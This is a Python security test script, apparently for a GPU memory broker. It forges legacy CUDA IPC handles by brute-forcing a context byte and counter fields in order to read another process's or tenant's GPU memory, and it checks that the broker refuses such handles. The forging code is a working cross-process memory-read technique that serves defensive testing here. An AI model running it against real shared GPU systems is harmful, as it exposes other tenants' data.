#!/usr/bin/env python3
"""Why the broker has no legacy CUDA IPC handles, re-run on a GPU (docs/security.md).

ctypes against libcuda.so.1 only (plus grpcio/protobuf for the broker part); run by
scripts/gpu-legacy-forge.sh.

  gpu_legacy_forge.py raw
      (a) Two raw exporter processes A and B (children of this one) each cuMemAlloc four
      2 MiB blocks, fill them (A: 0xa0+i, B: 0xb0+i) and export them with cuIpcGetMemHandle.
      This process holds only B's handles: it prints what the handle bytes are (exporter
      pid, per-process value, per-context byte 48, per-allocation counters) and then opens
      A's memory by trying the 256 values of byte 48 on B's handles. Prints
      "reached A's memory: yes/no" and what one exporter's CUDA context costs in device
      memory (what one exporter process per tenant would have cost). Exits 0 either way:
      it is a measurement.

  gpu_legacy_forge.py broker SOCKET TOKEN BROKER_PID DESCRIPTOR_SET VICTIM_LEASE PATTERN
      (b) Against a running broker (its only mode) while another tenant's worker holds
      VICTIM_LEASE written with PATTERN (hex byte). As the tenant of TOKEN: every lease reply
      carries an fd handle, never a legacy one (default request, fd-only request, the
      listing); a request accepting only HANDLE_KIND_CUDA_IPC gets FAILED_PRECONDITION with
      reason LEGACY_HANDLES_REMOVED. Then it crafts legacy handles from its own export
      template with the broker's pid, all 256 values of byte 48 and a range of the two
      counters, and opens each: first against a control exporter of its own (the crafting
      must reach that one, or the check proves nothing), then with the control gone.
      Exits 1 if any crafted handle then opens memory of another context (byte 48 other
      than this process's own: a handle with its own value reaches only its own
      allocations, reported apart), if tenant B's bytes are read, or if any reply carried
      a legacy handle.

  gpu_legacy_forge.py exporter TAG N     (the exporter child of `raw` and the control)
"""
import ctypes
import json
import os
import subprocess
import sys
import time

cuda = ctypes.CDLL("libcuda.so.1")
SIZE = 2 << 20
OPEN_LAZY = 1  # CU_IPC_MEM_LAZY_ENABLE_PEER_ACCESS


class Handle(ctypes.Structure):
    _fields_ = [("b", ctypes.c_ubyte * 64)]


def ck(rc, what):
    if rc != 0:
        raise RuntimeError("%s failed: CUresult %d" % (what, rc))


def context():
    ck(cuda.cuInit(0), "cuInit")
    dev = ctypes.c_int()
    ck(cuda.cuDeviceGet(ctypes.byref(dev), 0), "cuDeviceGet")
    ctx = ctypes.c_void_p()
    ck(cuda.cuDevicePrimaryCtxRetain(ctypes.byref(ctx), dev), "cuDevicePrimaryCtxRetain")
    ck(cuda.cuCtxSetCurrent(ctx), "cuCtxSetCurrent")


def free_bytes():
    free, total = ctypes.c_size_t(), ctypes.c_size_t()
    ck(cuda.cuMemGetInfo_v2(ctypes.byref(free), ctypes.byref(total)), "cuMemGetInfo")
    return free.value


def export_blocks(fill, n):
    """cuMemAlloc n blocks filled with fill+i; their legacy handles (bytes)."""
    out = []
    for i in range(n):
        p = ctypes.c_uint64()
        ck(cuda.cuMemAlloc_v2(ctypes.byref(p), ctypes.c_size_t(SIZE)), "cuMemAlloc")
        ck(cuda.cuMemsetD8_v2(p, ctypes.c_ubyte(fill + i), ctypes.c_size_t(SIZE)), "cuMemsetD8")
        h = Handle()
        ck(cuda.cuIpcGetMemHandle(ctypes.byref(h), p), "cuIpcGetMemHandle")
        out.append(bytes(h.b))
    ck(cuda.cuCtxSynchronize(), "cuCtxSynchronize")
    return out


def try_open(raw):
    """Opens a (crafted) handle; the first byte behind it, or None when refused."""
    h = Handle()
    for i in range(64):
        h.b[i] = raw[i]
    p = ctypes.c_uint64()
    fn = getattr(cuda, "cuIpcOpenMemHandle_v2", None) or cuda.cuIpcOpenMemHandle
    if fn(ctypes.byref(p), h, ctypes.c_uint(OPEN_LAZY)) != 0:
        return None
    b = (ctypes.c_ubyte * 1)()
    ck(cuda.cuMemcpyDtoH_v2(b, p, ctypes.c_size_t(1)), "cuMemcpyDtoH")
    cuda.cuIpcCloseMemHandle(p)
    return b[0]


def exporter(tag, n):
    context()
    handles = export_blocks(tag * 16, n)
    print(json.dumps({"pid": os.getpid(), "handles": [h.hex() for h in handles]}), flush=True)
    sys.stdin.readline()


def spawn_exporter(tag, n):
    pr = subprocess.Popen([sys.executable, os.path.abspath(__file__), "exporter", str(tag), str(n)],
                          stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    info = json.loads(pr.stdout.readline())
    info["handles"] = [bytes.fromhex(h) for h in info["handles"]]
    return pr, info


def stop(pr):
    pr.stdin.write("\n")
    pr.stdin.flush()
    pr.wait()


def le32(v):
    return v.to_bytes(4, "little")


def raw_attack():
    context()
    free0 = free_bytes()
    (pa, a), (pb, b) = spawn_exporter(0xA, 4), spawn_exporter(0xB, 4)
    time.sleep(0.5)
    per_exporter = (free0 - free_bytes()) / 2 - 4 * SIZE
    ha, hb = a["handles"], b["handles"]
    facts = {
        "exporter_pids": [a["pid"], b["pid"]],
        "bytes_8_11_are_the_exporter_pid": ha[0][8:12] == le32(a["pid"]) and hb[0][8:12] == le32(b["pid"]),
        "bytes_0_7_A_B": [ha[0][:8].hex(), hb[0][:8].hex()],
        "byte_48_A_B": [hex(ha[0][48]), hex(hb[0][48])],
        "byte_40_of_B_handles": [h[40] for h in hb],
        "byte_52_of_B_handles": [h[52] for h in hb],
        "bytes_differing_A0_B0": [i for i in range(64) if ha[0][i] != hb[0][i]],
        "bytes_differing_B0_B1": [i for i in range(64) if hb[0][i] != hb[1][i]],
    }
    # Is the pid checked? B's own handle with A's pid in bytes 8-11.
    swapped = bytearray(hb[0])
    swapped[8:12] = le32(a["pid"])
    got = try_open(bytes(swapped))
    facts["B0_with_A_pid_opens"] = None if got is None else hex(got)
    # The attack: only B's handles, byte 48 tried over all 256 values.
    reached, tries = {}, 0
    t0 = time.perf_counter()
    for k, h in enumerate(hb):
        for v in range(256):
            raw = bytearray(h)
            raw[48] = v
            tries += 1
            got = try_open(bytes(raw))
            if got is not None and got >> 4 == 0xA:
                reached["A%d" % (got & 0xF)] = "from B%d with byte 48 = %#x" % (k, v)
    secs = time.perf_counter() - t0
    stop(pa)
    stop(pb)
    facts.update({
        "tries": tries,
        "seconds": round(secs, 4),
        "us_per_try": round(secs / tries * 1e6, 1),
        "A_blocks_reached": reached,
        "cuda_context_of_one_exporter_MiB": round(per_exporter / 2**20, 1),
    })
    print(json.dumps(facts, indent=1))
    print("reached A's memory: %s (%d of A's 4 blocks, %d tries in %.3f s)"
          % ("yes" if reached else "no", len(reached), tries, secs))
    print("one exporter process per tenant would cost a CUDA context each: %.0f MiB of device "
          "memory per tenant per GPU (measured here), and would not stop this" % (per_exporter / 2**20))


# ---- the broker part ----------------------------------------------------------------------

def pb_fields(buf):
    """(field number, value) of a protobuf message: varints as int, length-delimited as bytes."""
    i = 0
    while i < len(buf):
        key, i = varint(buf, i)
        num, wire = key >> 3, key & 7
        if wire == 0:
            v, i = varint(buf, i)
        elif wire == 2:
            n, i = varint(buf, i)
            v, i = buf[i:i + n], i + n
        elif wire == 5:
            v, i = buf[i:i + 4], i + 4
        elif wire == 1:
            v, i = buf[i:i + 8], i + 8
        else:
            raise ValueError("wire type %d" % wire)
        yield num, v


def varint(buf, i):
    shift = result = 0
    while True:
        b = buf[i]
        i += 1
        result |= (b & 0x7F) << shift
        if not b & 0x80:
            return result, i
        shift += 7


def error_info(err):
    """The reason and metadata of the google.rpc.ErrorInfo in a grpc.RpcError, or None."""
    for k, v in err.trailing_metadata() or ():
        if k != "grpc-status-details-bin":
            continue
        for num, any_ in pb_fields(v):
            if num != 3:
                continue
            f = dict(pb_fields(any_))
            if f.get(1, b"").decode().endswith("google.rpc.ErrorInfo"):
                reason, meta = "", {}
                for n, x in pb_fields(f.get(2, b"")):
                    if n == 1:
                        reason = x.decode()
                    elif n == 3:
                        e = dict(pb_fields(x))
                        meta[e.get(1, b"").decode()] = e.get(2, b"").decode()
                return reason, meta
    return None


def craft_and_open(template, pid, label):
    """Every crafted handle: the template with `pid` at bytes 8-11, each value of byte 48,
    the counters at bytes 40 (step 1) and 52 (step 2) near the template's and small. Returns
    (tries, seconds, {first byte read: count} of the ones that opened in another context,
    the same of those that opened with this process's own byte 48). Byte 48 names the
    context (GPU.md): a handle with this process's own value reaches only this process's
    own allocations (its template block, the driver's own), no other tenant's."""
    t40, t52, own = template[40], template[52], template[48]
    counters = {((t40 + d) % 256, (t52 + 2 * d) % 256) for d in range(-16, 17)}
    counters |= {(k, (2 * k) % 256) for k in range(33)}
    other, mine, seen, tries = {}, {}, [], 0
    t0 = time.perf_counter()
    for v in range(256):
        for c40, c52 in sorted(counters):
            raw = bytearray(template)
            raw[8:12] = le32(pid)
            raw[48], raw[40], raw[52] = v, c40, c52
            tries += 1
            got = try_open(bytes(raw))
            if got is not None:
                into = mine if v == own else other
                into[hex(got)] = into.get(hex(got), 0) + 1
                if len(seen) < 24:
                    seen.append("byte48=%#x b40=%d b52=%d -> %#x" % (v, c40, c52, got))
    secs = time.perf_counter() - t0
    print("%s: %d crafted handles (byte 48: 256 values x %d counter pairs, pid %d) in %.2f s: "
          "other contexts %s; own context (byte 48 = %#x) %s"
          % (label, tries, len(counters), pid, secs, other or "none opened", own,
             mine or "none opened"), flush=True)
    for line in seen:
        print("  opened: " + line)
    return tries, secs, other, mine


def broker_attack(sock, token, broker_pid, fds_path, victim_lease, pattern):
    import grpc
    from google.protobuf import descriptor_pb2, descriptor_pool, message_factory

    fds = descriptor_pb2.FileDescriptorSet.FromString(open(fds_path, "rb").read())
    pool = descriptor_pool.DescriptorPool()
    for f in fds.file:
        pool.Add(f)

    def msg(name):
        return message_factory.GetMessageClass(pool.FindMessageTypeByName("gpubroker.v1." + name))

    def kind(name):
        return pool.FindEnumTypeByName("gpubroker.v1.HandleKind").values_by_name[name].number

    ch = grpc.insecure_channel("unix://" + sock, options=[("grpc.default_authority", "localhost")])
    md = [("authorization", "Bearer " + token)]

    def unary(method, req, resp):
        return ch.unary_unary("/gpubroker.v1.Broker/" + method,
                              request_serializer=msg(req).SerializeToString,
                              response_deserializer=msg(resp).FromString)

    events = ch.unary_stream("/gpubroker.v1.Broker/OpenSession",
                             request_serializer=msg("OpenSessionRequest").SerializeToString,
                             response_deserializer=msg("SessionEvent").FromString)(
        msg("OpenSessionRequest")(name="forger"), metadata=md)
    session = next(events).opened.session_id
    acquire = unary("AcquireLease", "AcquireLeaseRequest", "AcquireLeaseResponse")
    release = unary("ReleaseLease", "ReleaseLeaseRequest", "ReleaseLeaseResponse")
    bad = 0
    held = []
    for accept in ([], [kind("HANDLE_KIND_FD")], [kind("HANDLE_KIND_FD"), kind("HANDLE_KIND_CUDA_IPC")]):
        held.append(acquire(msg("AcquireLeaseRequest")(session_id=session, bytes=64 << 20,
                                                       accept_handles=accept), metadata=md).lease)
    kinds_seen = [l.WhichOneof("handle") for l in held]
    bad += sum(k != "fd" for k in kinds_seen)
    listed = unary("ListLeases", "ListLeasesRequest", "ListLeasesResponse")(
        msg("ListLeasesRequest")(), metadata=md)
    listed_kinds = [l.WhichOneof("handle") for l in listed.leases]
    bad += sum(k != "fd" for k in listed_kinds) + (len(listed_kinds) != len(held))
    for l in held:
        release(msg("ReleaseLeaseRequest")(lease_id=l.lease_id), metadata=md)
    print("lease replies (no kinds named / fd / fd+cuda_ipc): %s; listing: %s"
          % (kinds_seen, listed_kinds or "empty"))
    try:
        acquire(msg("AcquireLeaseRequest")(session_id=session, bytes=64 << 20,
                                           accept_handles=[kind("HANDLE_KIND_CUDA_IPC")]), metadata=md)
        print("a request accepting only HANDLE_KIND_CUDA_IPC was GRANTED")
        bad += 1
    except grpc.RpcError as e:
        info = error_info(e)
        print("only HANDLE_KIND_CUDA_IPC: %s, reason %s" % (e.code().name, info))
        if e.code() != grpc.StatusCode.FAILED_PRECONDITION or not info or info[0] != "LEGACY_HANDLES_REMOVED":
            bad += 1

    # The tenant's worker's own legacy export is the template (what an attacker has).
    context()
    template = export_blocks(0x11, 1)[0]
    print("template (own export): %s" % template.hex())
    # Control: an exporter of this tenant's own; the crafting must reach it.
    pr, info = spawn_exporter(0xC, 1)
    _, _, control, _ = craft_and_open(template, broker_pid,
                                      "control (own exporter pid %d alive)" % info["pid"])
    stop(pr)
    control_ok = any(int(k, 16) == 0xC0 for k in control)
    print("control reached its own exporter's block: %s" % ("yes" if control_ok else "no"))
    tries, secs, opened, own = craft_and_open(template, broker_pid,
                                              "against the broker (pid %d)" % broker_pid)
    victim = opened.get(hex(pattern), 0) + own.get(hex(pattern), 0)
    events.cancel()
    print("reached tenant B's lease %s (pattern %#x): %s" % (victim_lease, pattern, "YES" if victim else "no"))
    print("crafted handles that opened memory of another context: %d (of this process's own: %d)"
          % (sum(opened.values()), sum(own.values())))
    print(json.dumps({"legacy_in_replies": bad, "control_reached": control_ok, "tries": tries,
                      "seconds": round(secs, 3), "opened_other_context": opened,
                      "opened_own_context": own, "victim_reached": bool(victim)}))
    if bad or opened or victim or not control_ok:
        print("FORGE CHECK FAILED")
        sys.exit(1)
    print("FORGE CHECK OK: no legacy handle in any reply; no crafted handle reached another "
          "context's memory")


def main():
    args = sys.argv[1:]
    if args[:1] == ["exporter"]:
        exporter(int(args[1]), int(args[2]))
    elif args[:1] == ["raw"]:
        raw_attack()
    elif args[:1] == ["broker"] and len(args) == 7:
        broker_attack(args[1], args[2], int(args[3]), args[4], args[5], int(args[6], 16))
    else:
        print(__doc__)
        sys.exit(2)


main()
